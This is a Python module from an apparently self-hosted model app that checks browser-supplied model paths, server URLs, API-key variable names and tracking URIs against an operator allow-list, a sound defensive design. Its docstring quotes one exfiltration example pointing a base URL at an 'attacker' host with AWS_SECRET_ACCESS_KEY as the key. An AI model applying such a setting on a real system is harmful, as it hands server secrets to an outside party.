"""Which models, adapters, servers and secrets a browser user may name: bundled aliases, the
user's own folders, this machine's usual loopback servers, and an operator's allow-list
(`<home>/allowed_paths.yaml`).

A model or adapter field typed in the browser is a path on the server: unchecked, it loads any
folder the app can read (or, with an adapter search, another owner's upload) and any hub id (a
download). So a user may name their own folders (`roots`: their adapter uploads and their runs'
files, never the app's home as a whole) and the operator's folders. The operator opens more
with a YAML file of AllowList fields, for example:

    paths: [/srv/models, /data/adapters]   # folders whose contents every user may name
    allow_hub_ids: false                   # true: Hugging Face ids too (needs a reachable hub)
    servers: [http://127.0.0.1:8000, https://vllm.internal:8000/v1]
    api_key_envs: [VLLM_API_KEY]           # environment variables a run may send as a key

A server URL typed in the browser is a request the server makes (to anything it can reach), and
an API-key variable name is a secret of the server's environment sent to that URL: unchecked,
`base_url=http://attacker/ api_key_env=AWS_SECRET_ACCESS_KEY` hands the secret over, and a
loopback URL on any port makes the model client a proxy to every local service. So servers are
the loopback ports of the usual model, vector and tracking servers unless the operator lists
more, with no query string or fragment, and no variable is sent unless the operator lists it.
A tracking URI is a place MLflow writes: the app's `mlruns/` folder, or a listed server.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import unquote, urlsplit

import yaml

from core.bundled import SAMPLE_DIR
from core.config import ConfigBase, ConfigError, ModelConfig, check, option
from core.engines.base import engine_class, engine_names
from core.engines.in_process import BUNDLED_EMBEDDERS, BUNDLED_GENERATORS
from core.untrusted.paths import is_within

ALLOW_FILE = "allowed_paths.yaml"
# The loopback ports the README documents: vLLM (8000), Chroma (8001), llama.cpp's server
# (8080), Ollama (11434) and an MLflow server (5000). Not the app's own port, nor any other.
DEFAULT_PORTS = (8000, 8001, 8080, 11434, 5000)
LOOPBACK = tuple(
    f"http://{host}:{port}"
    for host in ("127.0.0.1", "localhost", "[::1]")
    for port in DEFAULT_PORTS
)
MLRUNS = "mlruns"
# owner/name as on the Hugging Face hub (a single name is an old-style id, refused as ambiguous)
_HUB_ID = re.compile(r"^[A-Za-z0-9][\w.-]{0,95}/[A-Za-z0-9][\w.-]{0,95}$")


class LocationRefused(ValueError):
    """A model or adapter location this server does not let users name; says why."""


@dataclass
class AllowList(ConfigBase):
    paths: list[str] = option([], "Folders whose models and adapters users may name.")
    allow_hub_ids: bool = option(False, "Let users name Hugging Face hub ids (owner/name).")
    servers: list[str] = option(
        list(LOOPBACK),
        "Server URLs users may point a model, judge or tracker at; an entry without a port "
        "allows every port of that host, one with a path allows what lies under it. "
        "By default the loopback ports of the usual servers (8000, 8001, 8080, 11434, 5000).",
    )
    api_key_envs: list[str] = option(
        [], "Environment variables whose value a run may send to a server as its API key."
    )

    def validate(self) -> None:
        check(isinstance(self.paths, list), "paths must be a list of folders")
        check(all(isinstance(p, str) and p for p in self.paths), "paths must be folder names")
        check(isinstance(self.allow_hub_ids, bool), "allow_hub_ids must be true or false")
        check(isinstance(self.servers, list), "servers must be a list of URLs")
        for url in self.servers:
            check(_split(url) is not None, f"servers: {url!r} is not an http(s) URL")
        check(isinstance(self.api_key_envs, list), "api_key_envs must be a list of names")


def load_allowlist(home: str | Path) -> AllowList:
    """The operator's allow-list from `<home>/allowed_paths.yaml`, or the default (nothing
    beyond the bundled models and the home). Raises ConfigError naming a broken file."""
    path = Path(home) / ALLOW_FILE
    if not path.is_file():
        return AllowList()
    try:
        return AllowList.from_yaml(path.read_text(encoding="utf-8"))
    except (ValueError, TypeError, yaml.YAMLError) as e:
        raise ConfigError(f"{path}: {e}") from e


def refusal(what: str, text: str, aliases: Iterable[str] = ()) -> LocationRefused:
    """The one refusal for a location a user may not name, whether or not anything is there
    (two messages would tell a visitor which paths exist on the server)."""
    known = ", ".join(sorted(aliases))
    return LocationRefused(
        f"{what} {text[:100]!r} is not one you can use here: name "
        + (f"a bundled {what} ({known}), " if known else "")
        + f"a folder of your own (your uploads, your runs' files) or one the operator allows "
        f"({ALLOW_FILE})"
    )


def check_location(
    value: str,
    *,
    roots: Iterable[str | Path] = (),
    aliases: Iterable[str] = (),
    allow: AllowList | None = None,
    what: str = "model",
) -> str:
    """`value` if a browser user may name it, else LocationRefused with the reason.

    Accepted: one of `aliases` (the bundled names) as it is; an existing path (`~` expanded,
    links resolved) inside one of `roots` (the asking user's own folders) or of the
    allow-list's folders, returned resolved; a hub id `owner/name` only when the allow-list has
    `allow_hub_ids: true` and no such path exists. Anything else gets the same refusal, there
    or not.
    """
    allow = allow or AllowList()
    aliases = list(aliases)
    text = str(value or "").strip()
    if not text:
        raise LocationRefused(f"name a {what}")
    if text in set(aliases):
        return text
    hub_like = bool(_HUB_ID.match(text)) and not text.startswith((".", "~", "/"))
    if hub_like and not allow.allow_hub_ids:  # said from the text alone, nothing looked up
        raise LocationRefused(
            f"{what} {text!r} looks like a Hugging Face id; this server does not download "
            f"models (allow_hub_ids in {ALLOW_FILE})"
        )
    path = Path(text).expanduser()
    folders = [*(Path(r) for r in roots), *(Path(p).expanduser() for p in allow.paths)]
    inside = any(is_within(path, root) for root in folders)
    if inside and path.exists():
        return str(path.resolve())
    if hub_like and not path.exists():  # a local folder of that name would load instead
        return text
    raise refusal(what, text, aliases)


def check_model(
    value: str, kind: str, roots: Iterable[str | Path] = (), allow: AllowList | None = None
) -> str:
    """check_location for a generator (`kind="generator"`) or an embedder field, with the
    bundled aliases of that kind."""

    aliases = BUNDLED_GENERATORS if kind == "generator" else BUNDLED_EMBEDDERS
    return check_location(value, roots=roots, aliases=aliases, allow=allow, what=kind)


def _split(url: str) -> tuple[str, str, int | None, str] | None:
    """(scheme, host, port or None, path) of an http(s) URL without credentials, else None."""
    try:
        parts = urlsplit(str(url).strip())
        port = parts.port
    except ValueError:  # a port that is not a number, a broken IPv6 literal
        return None
    if parts.scheme not in ("http", "https") or not parts.hostname or "@" in parts.netloc:
        return None
    # A query string or fragment steers what a server does with the path (a proxy, a search);
    # `..`, also percent-encoded, may be resolved out of the allowed prefix.
    if "?" in str(url) or "#" in str(url) or ".." in unquote(parts.path).split("/"):
        return None
    return parts.scheme, parts.hostname.lower(), port, parts.path.rstrip("/")


def check_server(url: str, allow: AllowList | None = None, what: str = "server") -> str:
    """`url` if a browser user may point a request at it, else LocationRefused with the reason:
    an http(s) URL without credentials under one of the allow-list's servers."""
    allow = allow or AllowList()
    got = _split(url)
    if got is None:
        shown = str(url)[:100]
        raise LocationRefused(
            f"{what} {shown!r} is not an http(s) URL without user:password@, `..`, query string "
            "or fragment"
        )
    scheme, host, port, path = got
    for entry in allow.servers:
        want = _split(entry)
        if want is None or (want[0], want[1]) != (scheme, host):
            continue
        if want[2] is not None and want[2] != port:
            continue
        if path == want[3] or path.startswith(want[3] + "/"):
            return str(url).strip()
    raise LocationRefused(
        f"{what} {scheme}://{host}{f':{port}' if port else ''} is not one this server lets users "
        f"reach (servers in {ALLOW_FILE}; by default this machine's loopback on ports "
        f"{', '.join(map(str, DEFAULT_PORTS))})"
    )


def check_key_env(name: str, allow: AllowList | None = None) -> str:
    """`name` ('' for none) if a run started from the browser may send that environment
    variable's value as an API key, else LocationRefused."""
    allow = allow or AllowList()
    if not name or name in allow.api_key_envs:
        return name
    raise LocationRefused(
        f"API key variable {name[:60]!r} is not one this server sends (api_key_envs in "
        f"{ALLOW_FILE})"
    )


def check_tracking_uri(uri: str, home: str | Path, allow: AllowList | None = None) -> str:
    """`uri` if a browser user may have MLflow write there: a local store (a folder, file: or
    sqlite:///) inside `<home>/mlruns` (never the run store or anything else of the app's), or
    an allowed server; else LocationRefused."""
    text = str(uri or "").strip()
    if text.startswith(("http://", "https://")):
        return check_server(text, allow, what="tracking server")
    local = text.removeprefix("sqlite:///").removeprefix("file://")
    if "://" in local or ":" in local.split("/", 1)[0]:
        raise LocationRefused(f"tracking URI {text[:100]!r}: only http(s), file and sqlite")
    # Absolute only: MLflow reads a relative path from its working folder, not the home.
    if not Path(local).is_absolute() or not is_within(local, Path(home) / MLRUNS):
        raise LocationRefused(
            f"tracking URI {text[:100]!r} is not in the app's {MLRUNS}/ folder; leave it empty "
            "for that folder or name an allowed tracking server"
        )
    return text


def check_run_settings(
    settings: dict,
    home: str | Path,
    allow: AllowList | None = None,
    roots: Iterable[str | Path] = (),
) -> None:
    """Check, in RunConfig settings typed in the browser, every location: the generator and
    embedder (bundled, or in the user's own `roots` or the allow-list), server URLs, API-key
    variables, the judge's model and the tracking URI (under `<home>/mlruns`); a cluster address
    is refused outright; a task's schema or style file must be the sample's or lie in `roots`.
    Checked values are written back (resolved); LocationRefused names the first refused."""
    allow = allow or AllowList()
    roots = list(roots)
    models = settings.setdefault("models", {})
    for kind in ("generator", "embedder"):
        models[kind] = check_model(models.get(kind, ""), kind, roots, allow)
    judge = settings.get("judge") or {}
    for section, what in ((models, "model server"), (judge, "judge server")):
        if section.get("base_url"):
            section["base_url"] = check_server(section["base_url"], allow, what)
        check_key_env(section.get("api_key_env", ""), allow)
    judge_engine = judge.get("engine") or models.get("engine") or ModelConfig.engine
    served = judge_engine in engine_names() and not engine_class(judge_engine).in_process
    if judge.get("model") and not served:  # on a server it is the served name
        judge["model"] = check_model(judge["model"], "generator", roots, allow)
    tracking = settings.get("tracking") or {}
    if tracking.get("uri"):
        tracking["uri"] = check_tracking_uri(tracking["uri"], home, allow)
    if (settings.get("executor") or {}).get("address"):  # the operator's cluster.yaml says
        raise LocationRefused("a cluster address is an operator setting (cluster.yaml)")
    for key, what in (("schema", "schema file"), ("style", "style file")):
        if settings.get(key):  # a run reads it: the sample's, or one of the user's own files
            settings[key] = check_location(
                settings[key], roots=[*roots, SAMPLE_DIR], allow=allow, what=what
            )


def check_strategy_settings(
    settings: dict, roots: Iterable[str | Path] = (), allow: AllowList | None = None
) -> None:
    """Check the locations in one strategy's settings typed in the browser: an adapter folder
    (`adapter_path`, in the user's own `roots` or the allow-list) and a vector-store server
    (`chroma_host`/`chroma_port`), in nested sections too (a combination holds its parts'
    settings: lora+rag's `lora` and `rag`). `settings` is a whole config form (every option
    present, `chroma_port` included)."""
    roots = list(roots)
    if settings.get("adapter_path"):
        settings["adapter_path"] = check_location(
            settings["adapter_path"], roots=roots, allow=allow, what="adapter"
        )
    if settings.get("chroma_host"):
        url = f"http://{settings['chroma_host']}:{settings['chroma_port']}"
        check_server(url, allow, what="Chroma server")
    for inner in settings.values():
        if isinstance(inner, dict):
            check_strategy_settings(inner, roots, allow)
